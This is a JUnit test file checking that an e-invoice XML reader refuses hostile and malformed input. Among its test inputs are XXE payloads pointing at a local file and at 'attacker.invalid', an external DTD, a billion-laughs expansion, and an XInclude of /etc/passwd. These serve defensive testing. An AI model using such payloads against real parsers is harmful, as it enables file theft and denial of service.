package org.echeance.einvoice.read;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.io.ByteArrayInputStream;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.echeance.core.money.Amounts;
import org.echeance.einvoice.EInvoiceReadException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Hostile and malformed documents are refused with a clear {@link EInvoiceReadException}, before harm is done. */
class HostileInputTest {
    private static final String EXAMPLE = "cii/CII_example4.xml";

    private final EInvoiceReader reader = EInvoiceReader.create();

    private static String example(String name) {
        return new String(Examples.bytes(name), StandardCharsets.UTF_8);
    }

    private EInvoiceReadException refusal(String document) {
        return refusal(new ByteArrayInputStream(document.getBytes(StandardCharsets.UTF_8)));
    }

    private EInvoiceReadException refusal(InputStream in) {
        try {
            reader.read(in, "hostile.xml");
        } catch (EInvoiceReadException e) {
            return e;
        }
        throw new AssertionError("the document was read");
    }

    /** Puts a DOCTYPE before the root and an entity reference in the first line's name. */
    private static String withDoctype(String doctype, String reference) {
        String cii = example(EXAMPLE);
        int root = cii.indexOf("<rsm:CrossIndustryInvoice");
        return cii.substring(0, root) + doctype + "\n"
                + cii.substring(root)
                        .replaceFirst("<ram:Name>[^<]*</ram:Name>", "<ram:Name>" + reference + "</ram:Name>");
    }

    @Test
    void refusesAnExternalEntityOnAFile(@TempDir Path dir) throws Exception {
        Path secret = dir.resolve("secret.txt");
        Files.writeString(secret, "TOP-SECRET");
        EInvoiceReadException e =
                refusal(withDoctype("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"" + secret.toUri() + "\">]>", "&xxe;"));

        assertThat(e.getMessage())
                .startsWith("hostile.xml:")
                .contains("DOCTYPE is not allowed")
                .doesNotContain("TOP-SECRET");
        assertThat(e.line()).isPositive();
        assertThat(e.column()).isPositive();
    }

    @Test
    void refusesAnExternalEntityOnAUrl() {
        // The host does not exist: were the URL fetched, the failure would be a network error, not this refusal.
        EInvoiceReadException e =
                refusal(withDoctype("<!DOCTYPE x [<!ENTITY xxe SYSTEM \"http://attacker.invalid/steal\">]>", "&xxe;"));

        assertThat(e.reason()).contains("DOCTYPE is not allowed");
    }

    @Test
    void refusesAnExternalDtd() {
        EInvoiceReadException e =
                refusal(withDoctype("<!DOCTYPE x SYSTEM \"http://attacker.invalid/evil.dtd\">", "Name"));

        assertThat(e.reason()).contains("DOCTYPE is not allowed");
    }

    @Test
    void refusesTheBillionLaughs() {
        StringBuilder doctype = new StringBuilder("<!DOCTYPE x [<!ENTITY lol0 \"lol\">");
        for (int i = 1; i <= 9; i++) {
            doctype.append("<!ENTITY lol").append(i).append(" \"");
            for (int j = 0; j < 10; j++) {
                doctype.append("&lol").append(i - 1).append(';');
            }
            doctype.append("\">");
        }
        doctype.append("]>");

        EInvoiceReadException e = refusal(withDoctype(doctype.toString(), "&lol9;"));

        assertThat(e.reason()).contains("DOCTYPE is not allowed");
    }

    @Test
    void refusesAnUndeclaredEntity() {
        EInvoiceReadException e = refusal(withDoctype("", "&undeclared;"));

        assertThat(e.reason()).isEqualTo("the entity reference &undeclared; is not allowed");
    }

    @Test
    void refusesAHundredMegabyteStreamAfterTheLimitWithoutReadingTheRest() {
        // Generated on the fly: a valid start, then a comment that never ends, 100 MB in all.
        byte[] head =
                "<?xml version=\"1.0\"?><rsm:CrossIndustryInvoice xmlns:rsm=\"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100\"><!--"
                        .getBytes(StandardCharsets.US_ASCII);
        long total = 100L * 1024 * 1024;
        long[] served = {0};
        InputStream huge = new InputStream() {
            @Override
            public int read() {
                if (served[0] >= total) {
                    return -1;
                }
                long i = served[0]++;
                return i < head.length ? head[(int) i] : 'a';
            }

            @Override
            public int read(byte[] b, int off, int len) {
                if (served[0] >= total) {
                    return -1;
                }
                int n = (int) Math.min(len, total - served[0]);
                for (int k = 0; k < n; k++) {
                    b[off + k] = (byte) read();
                }
                return n;
            }
        };

        EInvoiceReadException e = refusal(huge);

        assertThat(e.reason()).isEqualTo("the document is larger than the limit of 20971520 bytes");
        assertThat(served[0]).isLessThan(ReadLimits.DEFAULT_MAX_BYTES + 1024 * 1024);
    }

    @Test
    void refusesALargeFileBeforeReadingIt(@TempDir Path dir) throws Exception {
        Path file = dir.resolve("big.xml");
        Files.write(file, Examples.bytes(EXAMPLE));
        EInvoiceReader small = EInvoiceReader.withLimits(ReadLimits.defaults().withMaxBytes(1000));

        assertThatThrownBy(() -> small.read(file))
                .isInstanceOf(EInvoiceReadException.class)
                .hasMessage("big.xml: the document is larger than the limit of 1000 bytes");
    }

    @Test
    void refusesDeepNesting() {
        StringBuilder deep = new StringBuilder(
                "<rsm:CrossIndustryInvoice xmlns:rsm=\"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100\">");
        deep.append("<a>".repeat(10_000)).append("</a>".repeat(10_000)).append("</rsm:CrossIndustryInvoice>");

        EInvoiceReadException e = refusal(deep.toString());

        assertThat(e.reason()).isEqualTo("elements are nested deeper than the limit of 64");
        assertThat(e.line()).isEqualTo(1);
    }

    @Test
    void refusesAWrongNamespace() {
        String zugferd1 = example(EXAMPLE)
                .replace(
                        "xmlns:rsm=\"urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100\"",
                        "xmlns:rsm=\"urn:ferd:CrossIndustryDocument:invoice:1p0\"");

        EInvoiceReadException e = refusal(zugferd1);

        assertThat(e.reason())
                .isEqualTo("the root element <rsm:CrossIndustryInvoice> is in namespace"
                        + " urn:ferd:CrossIndustryDocument:invoice:1p0, expected"
                        + " urn:un:unece:uncefact:data:standard:CrossIndustryInvoice:100");
    }

    @Test
    void refusesAnotherDocument() {
        EInvoiceReadException e = refusal("<order xmlns=\"urn:example\"><id>1</id></order>");

        assertThat(e.getMessage())
                .isEqualTo("hostile.xml:1:28: the root element <order> in namespace urn:example is neither a CII"
                        + " CrossIndustryInvoice nor a UBL Invoice or CreditNote");
    }

    @Test
    void refusesATruncatedFile() {
        String cii = example(EXAMPLE);

        EInvoiceReadException e = refusal(cii.substring(0, cii.length() / 2));

        assertThat(e.reason()).startsWith("not well-formed XML");
        assertThat(e.line()).isPositive();
    }

    @Test
    void refusesAnEmptyFile() {
        assertThat(refusal("").reason()).startsWith("not well-formed XML");
    }

    @Test
    void refusesNumbersThatAreNotPlainDecimals() {
        for (String wrong : new String[] {"1,000.00", "1e3", "+5", "", " ", "1.", ".5", "0x10", "NaN", "1 000"}) {
            String cii = example(EXAMPLE)
                    .replaceFirst(
                            "<ram:LineTotalAmount>[^<]*</ram:LineTotalAmount>",
                            "<ram:LineTotalAmount>" + wrong + "</ram:LineTotalAmount>");

            EInvoiceReadException e = refusal(cii);

            assertThat(e.reason())
                    .as(wrong)
                    .isEqualTo("<ram:LineTotalAmount> \"" + wrong.strip()
                            + "\" is not a plain decimal number (digits, an optional leading minus sign and an"
                            + " optional decimal point)");
            assertThat(e.line()).as(wrong).isPositive();
        }
    }

    @Test
    void refusesAnImpossibleDate() {
        String cii = example(EXAMPLE)
                .replaceFirst(
                        "<udt:DateTimeString format=\"102\">\\d+</udt:DateTimeString>",
                        "<udt:DateTimeString format=\"102\">20130231</udt:DateTimeString>");

        assertThat(refusal(cii).reason()).isEqualTo("<udt:DateTimeString> \"20130231\" is not a date yyyyMMdd");
    }

    @Test
    void refusesAnUnknownCurrency() {
        String cii = example(EXAMPLE)
                .replace(
                        "<ram:InvoiceCurrencyCode>DKK</ram:InvoiceCurrencyCode>",
                        "<ram:InvoiceCurrencyCode>XYZ</ram:InvoiceCurrencyCode>");

        assertThat(refusal(cii).reason())
                .isEqualTo("<ram:InvoiceCurrencyCode> \"XYZ\" is not an ISO 4217 currency code (BT-5)");
    }

    @Test
    void ignoresUnknownExtensionsAndXInclude() {
        String ubl = example("ubl/ubl-tc434-example4.xml");
        int after = ubl.indexOf("<cbc:CustomizationID>");
        String extended = ubl.substring(0, after)
                + "<ext:UBLExtensions xmlns:ext=\"urn:oasis:names:specification:ubl:schema:xsd:CommonExtensionComponents-2\">"
                + "<ext:UBLExtension><ext:ExtensionContent><x:Anything xmlns:x=\"urn:example\"><x:ID>not the invoice"
                + " number</x:ID><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>"
                + "</x:Anything></ext:ExtensionContent></ext:UBLExtension></ext:UBLExtensions>"
                + ubl.substring(after);

        ReadResult plain = reader.read(new ByteArrayInputStream(ubl.getBytes(StandardCharsets.UTF_8)));
        ReadResult withExtension = reader.read(new ByteArrayInputStream(extended.getBytes(StandardCharsets.UTF_8)));

        assertThat(withExtension.invoice()).isEqualTo(plain.invoice());
        assertThat(withExtension.invoice().orElseThrow().number()).contains("TOSL110");
    }

    @Test
    void keepsFourDecimalPricesAndQuantities() {
        String cii = example(EXAMPLE)
                .replaceFirst(
                        "<ram:BilledQuantity unitCode=\"C62\">[^<]*</ram:BilledQuantity>",
                        "<ram:BilledQuantity unitCode=\"C62\">1.2345</ram:BilledQuantity>");
        ReadResult result = reader.read(new ByteArrayInputStream(cii.getBytes(StandardCharsets.UTF_8)));

        assertThat(result.invoice().orElseThrow().lines().get(0).quantity().toPlainString())
                .isEqualTo("1.2345");
        // The stated line amount no longer fits the quantity: reported, not hidden.
        assertThat(result.differences()).anyMatch(d -> d.businessTerm().equals("BT-131"));
    }

    @Test
    void reportsATotalThatDiffersFromTheRecomputedOne() {
        // CII example 4 states TaxBasisTotalAmount (BT-109) 4000; written as 4000.01 here.
        String cii = example(EXAMPLE)
                .replace(
                        "<ram:TaxBasisTotalAmount>4000</ram:TaxBasisTotalAmount>",
                        "<ram:TaxBasisTotalAmount>4000.01</ram:TaxBasisTotalAmount>");
        assertThat(cii).isNotEqualTo(example(EXAMPLE));

        ReadResult result = reader.read(new ByteArrayInputStream(cii.getBytes(StandardCharsets.UTF_8)));

        assertThat(result.differences()).singleElement().satisfies(d -> {
            assertThat(d.businessTerm()).isEqualTo("BT-109");
            assertThat(Amounts.toPlainString(d.stated().orElseThrow())).isEqualTo("4000.01");
            assertThat(Amounts.toPlainString(d.recomputed().orElseThrow())).isEqualTo("4000.00");
        });
        assertThat(result.isConsistent()).isFalse();
        assertThat(result.totalsAgree()).isFalse();
    }

    @Test
    void reportsWhatTheModelRefusesWithoutCrashing() {
        // A line without VAT category: the model cannot build the invoice; the stated totals are still reported.
        String cii = example(EXAMPLE).replaceFirst("<ram:CategoryCode>S</ram:CategoryCode>", "");

        ReadResult result = reader.read(new ByteArrayInputStream(cii.getBytes(StandardCharsets.UTF_8)));

        assertThat(result.invoice()).isEmpty();
        assertThat(result.recomputedTotals()).isEmpty();
        assertThat(result.statedTotals().taxExclusiveAmount()).isPresent();
        assertThat(result.violations()).anyMatch(v -> v.ruleId().equals("BR-CO-04"));
        assertThat(result.isConsistent()).isFalse();
    }
}
